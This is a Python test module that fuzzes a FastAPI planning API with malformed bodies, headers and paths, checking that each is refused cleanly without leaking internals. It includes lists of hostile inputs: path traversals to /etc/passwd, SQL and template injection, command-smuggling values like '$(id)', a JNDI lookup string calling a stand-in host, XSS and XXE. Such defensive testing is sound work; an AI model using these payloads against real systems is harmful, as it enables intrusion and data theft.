"""A thousand requests that are wrong: each is refused with what is wrong, and nothing breaks."""

import gzip
import json
import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI
from httpx2 import Response
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from api.access import ACCESS, Routes
from api.bodies import MOST_BYTES, MOST_VALUES
from api.problems import MOST_PROBLEMS
from api.register.examples import EXAMPLES
from hotspots.register import Role
from tests.api.furnished import DESIGNATION, KNOWN
from tests.api.signing import signed_in

TRAVERSALS = (
    "../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/workspace.json",
    "....//....//etc/passwd", "..%5c..%5cwindows%5cwin.ini", "..%252f..%252fetc%252fpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/etc/passwd", "//etc/passwd", "C:%5cwindows",
    "%5c%5cserver%5cshare", "file:///etc/passwd", "latest%00.json", "latest/../../../x", ".", "..",
    "%2e", "~root", "latest%0a", "runs/2025-abc123/run.json", "CON", "%ef%bc%8e%ef%bc%8e%ef%bc%8f",
)  # fmt: skip
INJECTIONS = (
    "' OR 1=1 --", "\"; DROP TABLE designations; --", "1 UNION SELECT hash FROM accounts",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% include '/etc/passwd' %}",
    "x\r\nSet-Cookie: hotspots=1", "x\nlevel=ERROR message=forged", "$(id)", "`id`", "; id", "| id",
    "${jndi:ldap://elders.example/a}", "=cmd|' /C calc'!A0", "<script>alert(1)</script>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;", "\u202e", "\x00", "\x1b[31m",
    "%s%s%s%n", "{0.__class__.__mro__}", "__proto__", "\ufeff", "\U0001d7cf", "١٢٣", "9" * 5_000,
    "1e999", "-0", "NaN", "null", "a" * 4_000,
)  # fmt: skip

READS = [
    key.partition(" ")[2]
    for key in ACCESS
    if key.startswith("GET /v1/") and key not in ("GET /v1/openapi.json", "GET /v1/docs")
]
NAMED = [path for path in READS if "{" in path]

WRITES: dict[str, str] = {
    "/v1/designations": "DraftBody",
    f"/v1/designations/{DESIGNATION}/decide": "Told",
    f"/v1/designations/{DESIGNATION}/publish": "PublicationBody",
    f"/v1/designations/{DESIGNATION}/extend": "ExtensionBody",
    f"/v1/designations/{DESIGNATION}/shrink": "ShrinkingBody",
    f"/v1/designations/{DESIGNATION}/ask-advice": "AdviceAskedBody",
    f"/v1/designations/{DESIGNATION}/receive-advice": "AdviceGivenBody",
    f"/v1/designations/{DESIGNATION}/placements": "PlacementBody",
    f"/v1/designations/{DESIGNATION}/reviews": "ReviewBody",
    "/v1/placements/placement-2026-001/move": "MoveBody",
    "/v1/choices": "ChoiceBody",
    "/v1/actions": "ActionBody",
    "/v1/actions/action-2027-001/report": "ReportBody",
    "/v1/runs": "RunRequest",
}
SENT: dict[str, Mapping[str, Any]] = {**EXAMPLES, "RunRequest": {"kind": "cameras", "budget": 3}}
_WRITERS: tuple[Role, ...] = ("planner", "mayor_office", "triangle", "vlo")
JSON = {"Content-Type": "application/json", "If-Match": '"1"'}


class Asking:
    """Asks as somebody who may; a failure inside the app is a 500 here."""

    def __init__(self, app: FastAPI) -> None:
        self._routes = Routes(app.routes)
        self._clients = {
            role: signed_in(app, role, raise_server_exceptions=False) for role in _WRITERS
        }

    def get(self, address: str, **given: Any) -> Response:
        return self._clients["planner"].get(address, follow_redirects=False, **given)

    def post(self, path: str, content: bytes, headers: dict[str, str]) -> Response:
        roles = ACCESS[self._routes.find("POST", path) or ""]
        role = next(role for role in _WRITERS if role in roles)
        return self._clients[role].post(path, content=content, headers=headers)


@pytest.fixture(scope="module")
def asking(furnished_app: FastAPI) -> Asking:
    return Asking(furnished_app)


def require_refused(answer: Response, *statuses: int) -> None:
    """Require a problem that says what is wrong, and nothing of what is inside."""
    assert 400 <= answer.status_code < 500, (answer.status_code, answer.text[:500])
    assert answer.status_code in (statuses or range(400, 500)), answer.text[:500]
    assert answer.headers["Content-Type"] == "application/problem+json"
    told = answer.json()
    assert told["status"] == answer.status_code
    assert told["title"]
    assert told["detail"]
    if answer.status_code in (400, 413, 415):
        assert told["problems"]
    assert len(answer.content) < 50_000
    for inside in ("Traceback", "site-packages", ".py", "root:x", "sqlite"):
        assert inside not in answer.text
    assert "Set-Cookie" not in answer.headers


_SEEDED = settings(
    derandomize=True,
    database=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)


# ---------------------------------------------------------------- addresses
def _as_it_is(traversal: str) -> str:
    """Keep the client from following a way up itself: the app is to see it."""
    return traversal.replace(".", "%2e")


@settings(_SEEDED, max_examples=400)
@given(
    path=st.sampled_from(NAMED),
    hostile=st.sampled_from(TRAVERSALS).map(_as_it_is)
    | st.sampled_from(INJECTIONS).map(lambda x: quote(x, "")),
    place=st.integers(0, 3),
)
def test_a_name_that_is_none_leads_nowhere(
    asking: Asking, path: str, hostile: str, place: int
) -> None:
    names = _names(path)
    known = {name: KNOWN.get(name, ("review-2026-001",))[0] for name in names}
    require_refused(asking.get(path.format_map(known | {names[place % len(names)]: hostile})))


@settings(_SEEDED, max_examples=200)
@given(
    path=st.sampled_from(READS),
    name=st.sampled_from([*INJECTIONS, "limit[]", "Limit", "f%00", "on[$gt]", "page"]),
    value=st.sampled_from(INJECTIONS),
    times=st.sampled_from([1, 2, 150]),
)
def test_what_cannot_be_asked_is_named(
    asking: Asking, path: str, name: str, value: str, times: int
) -> None:
    names = {name: KNOWN.get(name, ("review-2026-001",))[0] for name in _names(path)}
    asked = "&".join([f"{quote(name[:40], '')}={quote(value[:200], '')}"] * times)
    require_refused(asking.get(f"{path.format_map(names)}?{asked}"), 400, 404, 414)


def _names(path: str) -> list[str]:
    return re.findall(r"\{(\w+)\}", path)


LIKELY = {("kind", "null"), ("theme", "null"), ("run", "null"), ("run", "1e999"), ("cursor", "-0")}
"""What may be a name or a number after all, of something that is not there."""


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize(
    ("path", "name"),
    [
        ("/v1/designations", "kind"), ("/v1/designations", "on"), ("/v1/designations", "cursor"),
        ("/v1/audit", "cursor"), ("/v1/audit/verify", "anchor"), ("/v1/jobs", "limit"),
        ("/v1/runs/latest/priorities", "theme"), ("/v1/signals", "designation"),
        ("/v1/collections/hotspots/items", "bbox"), ("/v1/collections/hotspots/items", "crs"),
        ("/v1/collections/hotspots/items", "datetime"), ("/v1/collections/hotspots/items", "run"),
        ("/v1/collections/hotspots/items", "limit"), ("/v1/collections/hotspots/items", "f"),
        (f"/v1/designations/{DESIGNATION}/boundaries", "crs"),
    ],
)  # fmt: skip
def test_a_value_that_is_none_is_refused(asking: Asking, path: str, name: str, text: str) -> None:
    answer = asking.get(f"{path}?{name}={quote(text, '')}")
    if (name, text) in LIKELY and answer.status_code in (200, 404):
        return
    require_refused(answer, 400)
    assert answer.json()["problems"][0]["column"] == name


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_header_of_an_enemy_changes_nothing(asking: Asking, text: str) -> None:
    sent = re.sub(r"[\r\n\x00]", "", text).encode()
    for name in ("Accept", "Accept-Language", "If-None-Match", "Range", "X-Request-Id", "Origin"):
        answer = asking.get("/v1/collections/hotspots/items?limit=1", headers={name: sent})
        assert answer.status_code == 200, (name, answer.text)
    body = json.dumps(EXAMPLES["Told"]).encode()
    for name in ("If-Match", "Content-Type", "Content-Encoding"):
        headers: dict[str, Any] = {**JSON, name: sent}
        require_refused(asking.post(f"/v1/designations/{DESIGNATION}/decide", body, headers))


# ---------------------------------------------------------------- bodies
def _field(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    name = draw(st.sampled_from(sorted(body)))
    return json.dumps(body | {name: {"$gt": draw(st.sampled_from(INJECTIONS))}}).encode()


def _unknown(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    return json.dumps(body | {draw(st.sampled_from(INJECTIONS)): 1}).encode()


def _missing(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    del body["kind" if "reason" not in body else "reason"]
    return json.dumps(body).encode()


def _cut(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    text = json.dumps(body).encode()
    return text[: draw(st.integers(0, len(text) - 1))]


def _twice(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    name = draw(st.sampled_from(sorted(body)))
    return (json.dumps(body)[:-1] + f', "{name}": {json.dumps(body[name])}}}').encode()


def _number(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    name = draw(st.sampled_from(sorted(body)))
    number = draw(st.sampled_from(["NaN", "Infinity", "1e999", "-1e999", "9" * 5_000, "01", "0x1"]))
    return json.dumps(body | {name: "@"}).replace('"@"', f"[{number}, {number}]", 1).encode()


def _deep(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    name, depth = draw(st.sampled_from(sorted(body))), draw(st.sampled_from([300, 100_000]))
    opened, closed = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
    nested = opened * depth + "1" + closed * depth
    return json.dumps(body | {name: "@"}).replace('"@"', nested, 1).encode()


def _charset(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    text = json.dumps(body | {"reason": "Één geval"}, ensure_ascii=False)
    return text.encode(draw(st.sampled_from(["utf-8-sig", "utf-16", "utf-32", "latin-1"])))


def _surrogate(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    return json.dumps(body | {"reason": "@"}).replace("@", "\\ud800").encode()


def _packed(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    return gzip.compress(json.dumps(body).encode())


def _other(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    return draw(
        st.sampled_from([b"null", b"1", b"true", b'"x"', b"[]", b"[{}]", b"{}", b"", b"\0"])
    )


def _many(body: dict[str, Any], draw: st.DrawFn) -> bytes:
    wrong = {f"n{number}": 1 for number in range(draw(st.sampled_from([150, 3_000])))}
    return json.dumps(body | wrong).encode()


_SPOILERS = (
    _field, _unknown, _missing, _cut, _twice, _number, _deep, _charset, _surrogate, _packed,
    _other, _many,
)  # fmt: skip


@st.composite
def spoiled(draw: st.DrawFn) -> tuple[str, bytes]:
    """A path, and a body for it that was right before it was spoiled."""
    path = draw(st.sampled_from(sorted(WRITES)))
    spoil = draw(st.sampled_from(_SPOILERS))
    return path, spoil(dict(SENT[WRITES[path]]), draw)


@settings(_SEEDED, max_examples=600)
@given(spoiled())
def test_a_body_that_is_wrong_is_refused(asking: Asking, sent: tuple[str, bytes]) -> None:
    path, content = sent
    require_refused(asking.post(path, content, JSON), 400)


@pytest.mark.parametrize("path", sorted(WRITES))
def test_a_body_of_another_kind_is_refused(asking: Asking, path: str) -> None:
    content = json.dumps(SENT[WRITES[path]]).encode()
    for kind in ("text/plain", "text/json", "application/xml", "multipart/form-data", "*/*", ""):
        require_refused(asking.post(path, content, JSON | {"Content-Type": kind}), 415)
    for packed in ("gzip", "br", "deflate, gzip"):
        headers = JSON | {"Content-Encoding": packed}
        require_refused(asking.post(path, gzip.compress(content), headers), 415)
    for many in (b"1," * (MOST_VALUES + 1), b" " * (MOST_BYTES + 1)):
        require_refused(asking.post(path, many, JSON), 413)


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_text_of_an_enemy_is_a_text(asking: Asking, text: str) -> None:
    """What is well-formed is kept as it is, or refused; nothing acts on it."""
    body = {**EXAMPLES["ActionBody"], "name": text[:200], "reason": text, "goal": text}
    answer = asking.post("/v1/actions", json.dumps(body).encode(), JSON)
    if answer.status_code != 201:
        require_refused(answer, 400, 409)
        return
    made = asking.get(answer.headers["Location"])
    assert made.json()["goal"] == text.strip()


def test_of_very_many_problems_the_first_are_told_and_the_rest_counted(asking: Asking) -> None:
    wrong = dict.fromkeys(map(str, range(40_000)), 1)
    answer = asking.post("/v1/actions", json.dumps(wrong).encode(), JSON)
    require_refused(answer, 400)
    *first, last = answer.json()["problems"]
    assert len(first) == MOST_PROBLEMS
    assert re.fullmatch(r"There are \d+ more problems\.", last["rule"])
